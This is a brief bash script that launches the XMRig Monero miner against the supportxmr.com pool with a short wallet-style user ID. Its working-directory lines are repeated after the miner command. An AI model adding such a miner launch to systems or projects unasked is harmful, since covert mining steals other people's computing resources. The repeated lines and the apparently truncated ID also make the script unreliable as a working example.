#!/usr/bin/env bash
log() { echo "[$(date +%H:%M:%S)] $*"; }
WORKDIR="${WORKDIR:-$PWD}"
cd "$WORKDIR" || exit 1
./xmrig -o pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ --donate-level 1
WORKDIR="${WORKDIR:-$PWD}"
cd "$WORKDIR" || exit 1
